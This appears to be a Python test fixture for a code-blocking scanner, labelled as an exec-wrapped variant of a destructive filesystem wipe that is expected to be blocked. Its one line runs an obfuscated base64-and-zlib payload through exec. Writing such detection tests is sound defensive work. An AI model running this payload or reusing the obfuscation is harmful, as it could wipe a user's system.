# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/rm_no_preserve_root.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxTVijKVdAtSlPQ1c3L1y0oSi1OLSpL1S3Kzy9R0OfKzC3ILypRKC5NKijKT04tLubiQrD1ikrzNKKVinKVdBSUgEaAKQxTQKL6SrE6CskZqcnZtm6JOcWpmgAl8iap')))
